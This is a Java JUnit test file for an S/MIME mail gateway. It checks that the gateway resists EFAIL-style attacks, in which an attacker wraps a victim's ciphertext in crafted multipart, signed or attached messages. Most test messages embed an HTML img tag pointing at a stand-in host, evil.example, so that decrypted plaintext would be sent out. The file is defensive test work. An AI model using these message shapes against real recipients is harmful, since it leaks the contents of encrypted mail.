package org.postseal.gateway.road.pipeline;

import static org.assertj.core.api.Assertions.assertThat;
import static org.postseal.gateway.road.pipeline.TestRoad.LMTP;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.SplittableRandom;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.postseal.gateway.mail.MimeEntity;
import org.postseal.gateway.smime.Sendable;

/**
 * An attacker who wants to know what a ciphertext for Alice says puts it into a message (EFAIL and its successors).
 * Decrypted octets never stand beside octets of the attacker.
 */
@Tag("thorough")
class EfailTest {
    private static final String SECRET = "the secret 7f3a";
    private static final String FOREIGN = "attacker 91bc";
    private static final String HEADERS =
            "From: Eve <eve@evil.example>\r\nTo: alice@example.com\r\nSubject: <img src=\"http://" + FOREIGN
                    + "/\r\nMIME-Version: 1.0\r\n";
    private static final String CONTENT = "Content-Type: text/html\r\n\r\n<p>" + SECRET + "</p>\r\n";
    private static final String CIPHERTEXT = ciphertext();
    private static final String OPEN =
            "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/" + FOREIGN + "?\r\n";
    private static final String CLOSE = "Content-Type: text/html\r\n\r\n" + FOREIGN + "\">\r\n";

    record Shape(String name, String message) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** Ciphertext is not at the root. To open it would serve the attacker. */
    static Stream<Shape> below() {
        String signed = SpoofForge.clearEntity(multipart("mixed", OPEN, CIPHERTEXT, CLOSE), new byte[] {1});
        return Stream.of(
                shape("between two halves of an address", multipart("mixed", OPEN, CIPHERTEXT, CLOSE)),
                shape("in a related part", multipart("related", OPEN, "Content-ID: <c>\r\n" + CIPHERTEXT)),
                shape("as another choice", multipart("alternative", OPEN, CIPHERTEXT)),
                shape("in a digest", multipart("digest", "\r\n" + HEADERS + CIPHERTEXT)),
                shape("alone in a multipart", multipart("mixed", CIPHERTEXT)),
                shape("alone in a multipart in a multipart", multipart("mixed", multipart2(CIPHERTEXT))),
                shape("twice, to be quoted in an answer", multipart("mixed", CIPHERTEXT, CIPHERTEXT, OPEN)),
                shape(
                        "in an attached message",
                        multipart("mixed", OPEN, "Content-Type: message/rfc822\r\n\r\n" + HEADERS + CIPHERTEXT)),
                shape(
                        "in a message that is the content",
                        "Content-Type: message/rfc822\r\n\r\n" + HEADERS + CIPHERTEXT),
                shape(
                        "in a multipart/encrypted",
                        multipart("encrypted; protocol=\"application/pkcs7-mime\"", OPEN, CIPHERTEXT)),
                shape("below a signature", signed),
                shape(
                        "below an opaque signature",
                        SpoofForge.opaqueEntity(SpoofForge.attached(
                                multipart("mixed", OPEN, CIPHERTEXT, CLOSE), SpoofForge.Signer.of(SpoofForge.EVE)))),
                shape(
                        "as a part of signed parts that are three",
                        multipart(
                                "signed; protocol=\"application/pkcs7-signature\"",
                                CIPHERTEXT,
                                OPEN,
                                SpoofForge.SIGNATURE_FIELDS + "\r\nAAAA\r\n")),
                shape(
                        "as the signature",
                        multipart("signed; protocol=\"application/pkcs7-signature\"", OPEN, CIPHERTEXT)),
                shape("behind the type of a text", "Content-Type: text/html\r\n" + CIPHERTEXT),
                shape(
                        "as an attachment by name",
                        multipart(
                                "mixed",
                                OPEN,
                                CIPHERTEXT.replace(
                                        "Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data;",
                                        "Content-Type: application/octet-stream;"))));
    }

    @ParameterizedTest
    @MethodSource("below")
    void ciphertextBelowTheRootStaysCiphertext(Shape shape) {
        TestRoad road = new TestRoad();

        road.send(Letter.inbound(LMTP, Parties.ALICE), shape.message());

        assertThat(road.sent().getFirst().octets()).isEqualTo(TestRoad.octets(shape.message()));
        assertThat(road.sent().getFirst().unit()).isInstanceOf(Sendable.Untouched.class);
    }

    /** Ciphertext is at the root, with octets of the attacker wherever there is room for some. */
    static Stream<Shape> root() {
        String eve = new String(
                SpoofForge.detached(CIPHERTEXT, SpoofForge.Signer.of(SpoofForge.EVE)), StandardCharsets.ISO_8859_1);
        String signed = SpoofForge.clearEntity(CIPHERTEXT, TestRoad.octets(eve));
        return Stream.of(
                shape("alone", CIPHERTEXT),
                shape("with text behind its base64", CIPHERTEXT + "==\r\n" + FOREIGN + "\r\n"),
                shape(
                        "with a second type behind",
                        CIPHERTEXT.replace("\r\n\r\n", "\r\nContent-Type: text/html; x=\"" + FOREIGN + "\"\r\n\r\n")),
                shape(
                        "with more fields of the content",
                        "Content-ID: <" + FOREIGN + ">\r\nContent-Location: http://" + FOREIGN
                                + "/\r\nContent-Base: http://" + FOREIGN + "/\r\n" + CIPHERTEXT),
                shape("with fields of header protection", "HP-Outer: Subject: " + FOREIGN + "\r\n" + CIPHERTEXT),
                shape("in a signature of the attacker", signed),
                shape(
                        "in a signature with text before it",
                        signed.replaceFirst("--sig\r\n", FOREIGN + "\r\n--sig\r\n")),
                shape("in a signature with text behind it", signed + FOREIGN + "\r\n"),
                shape(
                        "in an opaque signature",
                        SpoofForge.opaqueEntity(
                                SpoofForge.attached(CIPHERTEXT, SpoofForge.Signer.of(SpoofForge.EVE)))));
    }

    @ParameterizedTest
    @MethodSource("root")
    void whatIsDecryptedStandsAlone(Shape shape) throws Exception {
        TestRoad road = new TestRoad();

        road.send(Letter.inbound(LMTP, Parties.ALICE), shape.message());

        RecordingDelivery.Sent sent = road.sent().getFirst();
        MimeEntity root = SealedCopy.scan(sent.octets());
        if (sent.unit() instanceof Sendable.Opened) {
            assertThat(text(SealedCopy.part(sent.octets())))
                    .isEqualTo("Content-Type: text/html\r\n\r\n<p>" + SECRET + "</p>\r\n");
            assertThat(text(root.header().toByteArray()).toLowerCase(java.util.Locale.ROOT))
                    .doesNotContain("content-id", "content-location", "content-base", SECRET);
        } else {
            assertThat(sent.octets()).isEqualTo(TestRoad.octets(shape.message()));
        }
    }

    @Test
    void withoutTricksItIsOpened() {
        TestRoad road = new TestRoad();

        road.send(Letter.inbound(LMTP, Parties.ALICE), HEADERS + CIPHERTEXT);

        assertThat(road.sent().getFirst().unit()).isInstanceOf(Sendable.Opened.class);
    }

    /** In trees of any shape, with ciphertext anywhere, no leaf that comes out holds both. */
    @Test
    void decryptedOctetsNeverShareALeafWithForeignOnes() throws Exception {
        int opened = 0;
        for (int seed = 0; seed < 300; seed++) {
            // Neighbouring seeds of Random give similar first numbers.
            Random random = new Random(new SplittableRandom(seed).nextLong());
            String message = HEADERS + tree(random, 0);
            TestRoad road = new TestRoad();

            road.send(Letter.inbound(LMTP, Parties.ALICE), message);

            RecordingDelivery.Sent sent = road.sent().getFirst();
            opened += sent.unit() instanceof Sendable.Opened ? 1 : 0;
            MimeEntity root = SealedCopy.scan(sent.octets());
            assertThat(text(root.header().toByteArray())).as("seed %d", seed).doesNotContain(SECRET);
            for (MimeEntity leaf : root.all()) {
                if (leaf.parts().isEmpty()) {
                    String text = decoded(leaf);
                    assertThat(text.contains(SECRET) && text.contains(FOREIGN))
                            .as("seed %d", seed)
                            .isFalse();
                }
            }
            if (!(sent.unit() instanceof Sendable.Opened)) {
                assertThat(sent.octets()).as("seed %d", seed).isEqualTo(TestRoad.octets(message));
            } else {
                assertThat(text(root.body().toByteArray())).as("seed %d", seed).doesNotContain(FOREIGN);
            }
        }
        assertThat(opened).isBetween(10, 200);
    }

    private static String tree(Random random, int depth) {
        int choice = random.nextInt(depth > 3 ? 3 : 8);
        return switch (choice) {
            case 0 -> CIPHERTEXT;
            case 1 -> OPEN;
            case 2 -> CLOSE;
            case 3 -> {
                String inner = tree(random, depth + 1);
                yield SpoofForge.clearEntity(inner, SpoofForge.detached(inner, SpoofForge.Signer.of(SpoofForge.EVE)))
                        .replace("=sig\r\n", "=s" + depth + "ig\r\n")
                        .replace("--sig", "--s" + depth + "ig");
            }
            case 4 ->
                SpoofForge.opaqueEntity(
                        SpoofForge.attached(tree(random, depth + 1), SpoofForge.Signer.of(SpoofForge.EVE)));
            case 5 -> "Content-Type: message/rfc822\r\n\r\n" + HEADERS + tree(random, depth + 1);
            default -> {
                List<String> parts = new ArrayList<>();
                for (int i = 0; i <= random.nextInt(3); i++) {
                    parts.add(tree(random, depth + 1));
                }
                String boundary = "b" + depth + random.nextInt(1000);
                yield "Content-Type: multipart/mixed; boundary=" + boundary + "\r\n\r\n" + FOREIGN + "\r\n--" + boundary
                        + "\r\n" + String.join("\r\n--" + boundary + "\r\n", parts) + "\r\n--" + boundary + "--\r\n"
                        + (random.nextBoolean() ? FOREIGN + "\r\n" : "");
            }
        };
    }

    private static String decoded(MimeEntity leaf) {
        try (InputStream in = leaf.transferEncoding().decode(leaf.body().open())) {
            return text(in.readAllBytes());
        } catch (IOException notWhatItSays) {
            return "";
        }
    }

    private static Shape shape(String name, String entity) {
        return new Shape(name, HEADERS + entity);
    }

    private static String multipart(String subtype, String... parts) {
        return "Content-Type: multipart/" + subtype + "; boundary=mix\r\n\r\n" + FOREIGN + "\r\n--mix\r\n"
                + String.join("\r\n--mix\r\n", parts) + "\r\n--mix--\r\n" + FOREIGN + "\r\n";
    }

    private static String multipart2(String part) {
        return multipart("mixed", part).replace("mix\r\n", "in\r\n").replace("--mix--", "--in--");
    }

    /** Returns what Bob sent to Alice, as an entity. */
    private static String ciphertext() {
        try {
            String sealed = text(SealedCopy.encrypt(SpoofForge.FROM_BOB + CONTENT, Parties.ALICE));
            return sealed.substring(sealed.indexOf("Content-Type:"));
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    private static String text(byte[] octets) {
        return new String(octets, StandardCharsets.ISO_8859_1);
    }
}
